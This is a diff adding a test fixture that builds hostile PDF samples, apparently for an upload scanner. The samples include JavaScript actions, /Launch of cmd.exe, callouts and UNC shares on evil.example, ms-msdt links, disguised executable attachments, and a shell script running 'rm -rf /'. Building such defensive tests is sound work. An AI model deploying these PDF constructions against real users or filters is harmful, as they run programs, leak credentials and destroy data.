@@ -1,0 +1,151 @@
+import { deflated, onePage, pdfOf, streamOf } from '../../support/pdf/make';
+import { zip } from '../../support/zip';
+import type { Hostile } from './hostile';
+
+function hostile(what: string, data: Buffer): Hostile {
+  return { what: `a PDF ${what}`, name: 'cv.pdf', data, because: 'contains' };
+}
+
+/** With this behind a link on its page. */
+function behindLink(action: string, others = {}): Buffer {
+  const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [10 0 R] >>';
+  const link = `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>`;
+  return pdfOf(onePage('', { 3: page, 10: link, ...others }));
+}
+
+const actions: [what: string, action: string][] = [
+  ['a script', '<< /S /JavaScript /JS (app.alert(1)) >>'],
+  ['a script in hexadecimal digits', '<< /S /JavaScript /JS <6170702e616c657274> >>'],
+  ['a script under an escaped name', '<< /S /J#61vaScript /#4aS (app.alert(1)) >>'],
+  ['a script in a film', '<< /S /Rendition /OP 0 /JS (app.alert(1)) >>'],
+  ['a script after a page', '<< /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >>'],
+  ['an order to start a program', '<< /S /Launch /F (cmd.exe) >>'],
+  ['an order to start a program, under an escaped name', '<< /S /La#75nch /F (cmd.exe) >>'],
+  ['an order to start a program of Windows', '<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'],
+  ['a form that sends', '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>'],
+  ['data that is fetched', '<< /S /ImportData /F (\\\\\\\\evil.example\\\\share\\\\x.fdf) >>'],
+  ['a program in a film', '<< /S /RichMediaExecute /CMD << /C (play) >> >>'],
+  ['an action that nobody knows', '<< /S /OpenEverything >>'],
+  ['a document in a network', '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>'],
+  ['a document in a network, with slashes', '<< /S /GoToR /F (//evil.example/share/x.pdf) /D [0 /Fit] >>'],
+  [
+    'a document in a network, in a specification',
+    '<< /S /GoToE /F << /Type /Filespec /UF <feff005c005c0065005c0073> >> >>',
+  ],
+  ['a document in a network, as an address', '<< /S /GoToR /F (file://evil.example/x.pdf) /D [0 /Fit] >>'],
+  ['an article in a network', '<< /S /Thread /F (\\\\\\\\evil.example\\\\x.pdf) /D 0 >>'],
+  ['a file in a network', '<< /S /URI /URI (file://evil.example/share) >>'],
+  ['a share', '<< /S /URI /URI (\\\\\\\\evil.example\\\\share) >>'],
+  ['a script in an address', '<< /S /URI /URI (javascript:alert\\(1\\)) >>'],
+  ['a script in an address with a line end', '<< /S /URI /URI (java\\nscript:alert\\(1\\)) >>'],
+  ['a script in an address in hexadecimal digits', '<< /S /URI /URI <6a6176617363726970743a31> >>'],
+  ['a program of Windows', '<< /S /URI /URI (ms-msdt:/id PCWDiagnostic) >>'],
+  ['data in an address', '<< /S /URI /URI (data:text/html,x) >>'],
+];
+
+const opened: [what: string, catalogue: string, others?: Record<number, string | Buffer>][] = [
+  ['runs a script when opened', '/OpenAction << /S /JavaScript /JS (x) >>'],
+  ['runs a script in a stream when opened', '/OpenAction << /S /JavaScript /JS 10 0 R >>', { 10: streamOf('x') }],
+  ['calls home when opened', '/OpenAction << /S /URI /URI (https://evil.example/) >>'],
+  [
+    'calls home after a page is shown',
+    '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (https://x.example/) >>] >>',
+  ],
+  ['calls home when it is closed', '/AA << /WC << /S /URI /URI (https://evil.example/) >> >>'],
+  [
+    'has a list of scripts',
+    '/Names << /JavaScript << /Names [(a) 10 0 R] >> >>',
+    { 10: '<< /S /JavaScript /JS (x) >>' },
+  ],
+  ['counts all links from a share', '/URI << /Base (file://evil.example/) >>'],
+  [
+    'has a script with its three-dimensional picture',
+    '',
+    { 10: streamOf('U3D', '/Type /3D /Subtype /U3D /OnInstantiate 11 0 R'), 11: streamOf('x') },
+  ],
+  ['has its page in a network', '', { 10: '<< /Length 0 /F (//evil.example/x) >>\nstream\n\nendstream' }],
+  ['has a script that belongs to nothing', '', { 10: '<< /S /JavaScript /JS (x) >>' }],
+];
+
+const template = '<template xmlns="http://www.xfa.org/schema/xfa-template/3.0/"><subform>';
+const script = '<event activity="initialize"><script contentType="application/x-javascript">x</script></event>';
+const forms: [what: string, xfa: string, others: Record<number, string | Buffer>][] = [
+  ['with a script', '10 0 R', { 10: streamOf(`${template}${script}</subform></template>`) }],
+  [
+    'with a script under a prefix',
+    '10 0 R',
+    { 10: streamOf('<t:template xmlns:t="x"><t:script>x</t:script></t:template>') },
+  ],
+  [
+    'that sends',
+    '10 0 R',
+    { 10: deflated(`${template}<event><submit target="https://x.example/"/></event></subform></template>`) },
+  ],
+  ['in UTF-16', '10 0 R', { 10: streamOf(Buffer.from(`\ufeff${template}${script}</subform></template>`, 'utf16le')) }],
+  [
+    'in parts',
+    '[(a) 10 0 R (b) 11 0 R]',
+    { 10: streamOf(`${template}<event><scr`), 11: streamOf('ipt>x</script></event></subform></template>') },
+  ],
+  ['that is not to be read', '10 0 R', { 10: streamOf('<template><subform') }],
+  ['packed in an unknown way', '10 0 R', { 10: streamOf('x', '/Filter /Unknown') }],
+];
+
+function attached(name: string, data: string | Buffer, entries = ''): Buffer {
+  const names = `/F (${name}) /UF (${name}) ${entries}`;
+  return pdfOf(
+    onePage('/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>', {
+      10: `<< /Type /Filespec ${names} /EF << /F 11 0 R >> >>`,
+      11: deflated(data, '/Type /EmbeddedFile'),
+    }),
+  );
+}
+
+const script1 = pdfOf(onePage('/OpenAction << /S /JavaScript /JS (x) >>'));
+const programs: [what: string, file: Buffer][] = [
+  ...[
+    'exe',
+    'EXE',
+    'js',
+    'jse',
+    'vbs',
+    'wsf',
+    'hta',
+    'lnk',
+    'scr',
+    'msi',
+    'jar',
+    'ps1',
+    'docm',
+    'swf',
+    'iso',
+    'url',
+    'library-ms',
+  ].map((end): [string, Buffer] => [`attached as x.${end}`, attached(`x.${end}`, 'x')]),
+  ['attached as x.exe with a blank behind', attached('x.exe ', 'x')],
+  ['attached under two names', attached('x.txt', 'x', '/DOS (x.exe)')],
+  ['attached as x.txt, a program inside', attached('x.txt', Buffer.from('MZ\x90\0\x03', 'latin1'))],
+  ['attached as x.png, a program inside', attached('x.png', Buffer.from('\x7fELF\x02\x01', 'latin1'))],
+  ['attached without an end, a script inside', attached('run', '#!/bin/sh\nrm -rf /')],
+  ['attached as x.txt, a shortcut inside', attached('x.txt', Buffer.from('L\0\0\0\x01\x14\x02\0\0\0', 'latin1'))],
+  ['attached as x.html with a script', attached('x.html', '<html><script>alert(1)</script></html>')],
+  [
+    'attached as x.svg with a handler',
+    attached('x.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
+  ],
+  ['attached as x.xml with a style sheet', attached('x.xml', '<?xml-stylesheet href="x.xsl"?><x/>')],
+  ['attached as x.xlsx with macros', attached('x.xlsx', zip([{ name: 'xl/vbaProject.bin', data: 'x' }]))],
+  ['attached as x.docx that is a program', attached('x.docx', Buffer.from('MZ'))],
+  ['in an attached PDF', attached('x.pdf', script1)],
+  ['in a PDF that is attached to an attached one', attached('x.pdf', attached('y.pdf', script1))],
+  ['in the fourth of PDFs in one another', attached('a.pdf', attached('b.pdf', attached('c.pdf', pdfOf(onePage()))))],
+];
+
+export const activePdfs: Hostile[] = [
+  ...actions.map(([what, action]) => hostile(`that links to ${what}`, behindLink(action))),
+  ...opened.map(([what, catalogue, others]) => hostile(`that ${what}`, pdfOf(onePage(catalogue, others)))),
+  ...forms.map(([what, xfa, others]) =>
+    hostile(`with a form in XML ${what}`, pdfOf(onePage(`/AcroForm << /XFA ${xfa} >>`, others))),
+  ),
+  ...programs.map(([what, file]) => hostile(`with a program ${what}`, file)),
+];
